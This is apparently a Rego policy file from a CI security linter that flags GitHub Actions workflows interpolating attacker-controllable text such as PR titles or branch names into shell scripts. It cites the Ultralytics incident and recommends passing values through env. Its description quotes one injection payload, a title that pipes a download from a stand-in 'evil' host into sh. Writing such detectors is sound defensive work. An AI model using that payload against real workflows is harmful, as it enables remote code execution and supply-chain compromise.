# METADATA
# title: Strangers write a part of a script
# description: >-
#   A `${{ … }}` is put into a script before the shell reads it. Where it holds what anybody can write (a pull request's
#   title, the name of a branch, a comment), that text is run: `"; curl evil | sh; "` is a title like any other.
# related_resources:
#   - https://docs.github.com/en/actions/concepts/security/script-injections
# custom:
#   level: deny
#   category: workflows
#   precedent: >-
#     Ultralytics, December 2024: a branch named like a shell command was put into a script, the cache was poisoned, and
#     two malicious releases went to PyPI.
#   needs: []
#   remedy: >-
#     Hand the value over in `env`, and let the script read the variable: `env: {TITLE: "${{ … }}"}` and `"$TITLE"`.
package andon.policies.workflow_script_injection

findings contains finding if {
	some expression in input.workflows.expressions
	some context in expression.untrusted
	finding := {
		"subject": expression.job,
		"code": context,
		"message": sprintf("%s puts %s into a script: whoever writes it writes the script", [expression.job, context]),
		"at": expression.at,
	}
}
